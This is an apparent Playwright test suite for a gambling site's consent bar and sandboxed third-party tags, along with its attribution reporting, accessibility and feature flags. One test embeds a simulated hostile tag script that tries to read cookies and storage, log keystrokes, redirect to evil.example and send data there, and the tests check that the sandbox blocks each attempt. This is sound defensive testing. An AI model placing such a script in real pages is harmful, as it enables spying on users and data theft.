import { paths, to } from '@parlour/kernel';
import type { Page } from '@playwright/test';
import { expectAccessible, expectNoOverflow } from '../support/accessibility';
import { watchLayoutShifts } from '../support/layoutShifts';
import { freshName, skipLimitPrompt } from '../support/player';
import { serveTags } from '../support/servers/serveTags';
import { settle } from '../support/settle';
import { appStarts, expect, test } from '../support/test';

// The tests share one server, and the operator's receiver.
test.describe.configure({ mode: 'default' });

const merchant = {
  ...{ code: '200jilif3', country: 'PH', countryName: 'Philippines', currency: 'TLB', langList: ['EN', 'TY', 'MY'] },
  flags: { statisticsWidget: { share: 50 } },
  consent: {
    version: '1',
    tags: [
      { name: 'reach', purpose: 'measurement', script: 'https://tag.example/reach.js', hosts: ['in.tag.example'] },
      { name: 'ads', purpose: 'marketing', pixel: 'https://ads.example/p.gif?e={event}&p={page}&s={utm_source}' },
    ],
  },
};

/** The example script of docs/guides/tags-and-consent.md. */
const listening = `
  addEventListener('message', ({ data }) => fetch('https://in.tag.example/?' + encodeURIComponent('told ' + JSON.stringify(data)), { mode: 'no-cors' }));
`;

/** Does all that a script of another company could try, and tells what it has got. */
const hostile = `
  const tell = (what) => fetch('https://in.tag.example/?' + encodeURIComponent(what), { mode: 'no-cors' });
  const attempt = (name, task) => { try { tell(name + ' ' + task()) } catch { tell(name + ' refused') } };
  attempt('page', () => parent.document.title);
  attempt('storage', () => localStorage.length);
  attempt('cookie', () => document.cookie);
  attempt('reload', () => parent.location.reload());
  attempt('away', () => { top.location = 'https://evil.example/' });
  attempt('form', () => { const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); return 'sent' });
  fetch('https://evil.example/' + document.referrer).then(() => tell('evil reached'), () => tell('evil refused'));
  addEventListener('keydown', ({ key }) => tell('key ' + key), true);
  addEventListener('message', ({ data }) => tell('told ' + JSON.stringify(data)));
  addEventListener('load', () => {
    const field = document.createElement('input');
    document.body.append(field);
    // Last, a second later: stealing the focus costs the tag its frame, and the attempts above must have reported by then.
    setTimeout(() => setInterval(() => { window.focus(); field.focus() }, 20), 1000);
  });
`;

let site: Awaited<ReturnType<typeof serveTags>>;
test.beforeAll(async () => (site = await serveTags(merchant)));
test.afterAll(() => site?.close());

const at = (path: string) => site.url + path;
const bar = (page: Page) => page.getByRole('complementary', { name: 'Your privacy' });

/** Answers for the hosts of the tags. Returns what they were asked. */
async function answerTags(page: Page, script = hostile): Promise<string[]> {
  const asked: string[] = [];
  await page.route(/^https:\/\/((in\.)?tag|ads|evil)\.example\//, async (route) => {
    asked.push(decodeURIComponent(route.request().url()));
    const isScript = route.request().url().endsWith('.js');
    await route.fulfill(isScript ? { contentType: 'text/javascript', body: script } : { status: 204 });
  });
  return asked;
}

test('nothing is asked of a tag before the player agrees; then it learns of pages; after the withdrawal it is gone', async ({ page }) => {
  const asked = await answerTags(page, listening);
  await page.goto(at(paths.home));
  await expect(bar(page)).toBeVisible();
  expect(asked).toEqual([]);
  await bar(page).getByRole('button', { name: 'Accept all' }).click();
  await expect.poll(() => asked).toContain('https://in.tag.example/?told {"event":"page","page":"/m/home"}');
  await expect.poll(() => asked).toContain('https://ads.example/p.gif?e=page&p=/m/home&s=');
  await page.getByRole('navigation').getByRole('link', { name: 'Promo' }).first().click();
  await expect.poll(() => asked).toContain('https://in.tag.example/?told {"event":"page","page":"/m/activity"}');

  await page.goto(at(paths.session.settings));
  for (const name of ['Measure how the site is used', 'See which ads bring visitors']) await page.getByText(name).click();
  asked.length = 0;
  await page.goto(at(paths.home));
  await expect(page.getByRole('region', { name: 'Hot games' }).getByRole('link').first()).toBeVisible();
  await settle(page);
  await expect(bar(page)).toBeHidden();
  expect(asked).toEqual([]);
});

test('a hostile tag reads nothing, keeps nothing, gets no key, and is not there where passwords and money are typed', async ({
  page,
  watch,
}) => {
  watch.allow(/evil\.example|sandboxed|Unsafe attempt/);
  const asked = await answerTags(page);
  const told = () => asked.filter((address) => address.startsWith('https://in.tag.example/')).map((address) => address.split('?')[1]);
  await page.goto(at(paths.home));
  await bar(page).getByRole('button', { name: 'Accept all' }).click();
  for (const attempt of ['page', 'storage', 'cookie', 'away', 'evil']) await expect.poll(told).toContain(`${attempt} refused`);
  // This tag took the focus, so the app has removed its frame.
  await expect(page.locator('iframe[title=reach]')).toHaveCount(0);
  await expect(page.locator('iframe[title=ads]')).toHaveCount(1);
  await page.getByRole('button', { name: 'Search games' }).click();
  const search = page.getByRole('dialog', { name: 'Search' }).locator('input');
  await search.pressSequentially('parlour88', { delay: 30 });
  await expect(search).toHaveValue('parlour88');
  expect(told().filter((what) => what?.startsWith('key'))).toEqual([]);

  await page.goto(at(paths.session.login));
  await page.getByRole('main').getByLabel('Password', { exact: true }).pressSequentially('secret-88');
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.goto(at(paths.session.register));
  await expect(page.getByRole('main').getByRole('button', { name: 'Sign up' })).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(page.url()).toContain(paths.session.register);
  expect(asked.join()).not.toMatch(/secret|https:\/\/evil/);
});

test('a tag whose host does not answer breaks nothing', async ({ page, watch }) => {
  watch.allow(/ERR_FAILED|Failed to load resource/);
  await page.route(/\.example\//, (route) => route.abort());
  await page.goto(at(paths.home));
  await bar(page).getByRole('button', { name: 'Accept all' }).click();
  await expect(bar(page)).toBeHidden();
  await page.getByRole('navigation').getByRole('link', { name: 'Promo' }).first().click();
  await expect(page).toHaveURL(/\/m\/activity$/);
  await expect(page.getByRole('main').getByRole('link').first()).toBeVisible();
});

test('a tag whose page was an error learns of the landing once its page comes', async ({ page, watch }) => {
  watch.allow(/502|Failed to load resource/);
  const asked = await answerTags(page, '');
  const source = freshName('late');
  await page.route(/\/m\/tags\//, (route) => route.fulfill({ status: 502, contentType: 'text/html', body: '<h1>Bad gateway</h1>' }));
  await page.goto(at(to(paths.home, {}, { utm_source: source })));
  await bar(page).getByRole('button', { name: 'Accept all' }).click();
  await expect(page.frameLocator('iframe[title=ads]').getByText('Bad gateway')).toBeAttached();
  await settle(page);
  await page.unroute(/\/m\/tags\//);
  await page.goto(at(paths.promotions.list));
  await expect.poll(() => asked).toContain(`https://ads.example/p.gif?e=landing&p=&s=${source}`);
});

for (const [language, tag] of [
  ['EN', 'en'],
  ['TY', 'fil'],
  ['MY', 'my'],
]) {
  test(`the bar is accessible in ${language}, fits, and moves nothing`, async ({ page, context }) => {
    await page.addInitScript((chosen) => localStorage.setItem('language', JSON.stringify(chosen)), language);
    await context.addCookies([{ name: 'home', value: `${merchant.code}.${tag}.visitor`, domain: '127.0.0.1', path: '/m' }]);
    const moved = await watchLayoutShifts(page);
    await page.goto(at(paths.home));
    const dock = page.getByRole('complementary');
    await expect(dock).toBeVisible();
    await settle(page);
    await expectNoOverflow(page);
    await expectAccessible(page, language === 'EN' ? 'everything' : 'language');
    await dock.getByRole('button').first().click();
    await expect(dock.getByRole('checkbox').first()).toBeFocused();
    await expectNoOverflow(page);
    await expectAccessible(page, language === 'EN' ? 'everything' : 'language');
    expect(await moved()).toEqual([]);
  });
}

test('what a link brought is reported at the landing, the registration and the first deposit, once each and without the player', async ({
  page,
}) => {
  const asked = await answerTags(page, '');
  const source = freshName('fb');
  const events = () => site.received.filter(({ campaign }) => campaign['utm_source'] === source);
  await page.goto(at(to(paths.home, {}, { code: 'carlo88', utm_source: source })));
  await expect(bar(page)).toBeVisible();
  expect(events()).toEqual([]);
  await bar(page).getByRole('button', { name: 'Accept all' }).click();
  await expect.poll(() => asked).toContain(`https://ads.example/p.gif?e=landing&p=&s=${source}`);
  await expect.poll(() => events().map(({ event }) => event), { timeout: 20_000 }).toEqual(['landing']);

  const name = freshName('brought');
  await page.goto(at(paths.session.register));
  await skipLimitPrompt(page);
  const form = page.getByRole('main');
  await form.getByRole('textbox', { name: /^Username/ }).fill(name);
  await form.getByLabel(/^Password/).fill('parlour88');
  await form.getByRole('button', { name: 'Sign up' }).click();
  await expect(page).not.toHaveURL(/\/m\/register/);
  await page.goto(at(paths.wallet.deposit));
  await page.getByRole('textbox', { name: 'Amount' }).fill('310');
  await page.getByRole('button', { name: /^Pay ₱/ }).click();
  await expect(page).toHaveURL(/voucherCenter\/order\/D-/);
  await page.goto(at(paths.home));
  await expect.poll(() => asked).toContain(`https://ads.example/p.gif?e=firstDeposit&p=&s=${source}`);
  await expect.poll(() => events().length, { timeout: 20_000 }).toBe(3);
  const campaign = { code: 'carlo88', utm_source: source };
  expect(events()).toMatchObject(
    ['landing', 'registration', 'firstDeposit'].map((event) => ({ event, merchant: merchant.code, campaign })),
  );
  expect(JSON.stringify(events()) + asked.join()).not.toMatch(new RegExp(`${name}|310`));
});

/** Two client ids: a share of 50 includes the first and not the second (`isInShare` of site). */
for (const [id, isIn] of [
  ['00000000-0000-4000-8000-000000000002', true],
  ['00000000-0000-4000-8000-000000000003', false],
] as const) {
  test(`a flag for half of the players is ${isIn ? 'on' : 'off'} for a browser, at every visit, and reported`, async ({ page }) => {
    const reports: string[] = [];
    page.on('request', (request) => request.url().endsWith('/m/reports') && reports.push(request.postData() ?? ''));
    await page.addInitScript((own) => localStorage.setItem('clientId', JSON.stringify(own)), id);
    const look = async () => {
      await appStarts(page);
      // The footer is below the widget, and is built after it.
      await expect(page.locator('footer')).toBeAttached();
      await expect(page.getByRole('heading', { name: 'Activity' })).toHaveCount(isIn ? 1 : 0);
    };
    await page.goto(at(paths.home));
    await look();
    await page.reload();
    await look();
    const ours = () => reports.filter((report) => report.includes('"kind":"flag"')).map((report) => JSON.parse(report) as object);
    await expect.poll(ours).toMatchObject([{ name: 'statisticsWidget', isOn: isIn }]);
  });
}
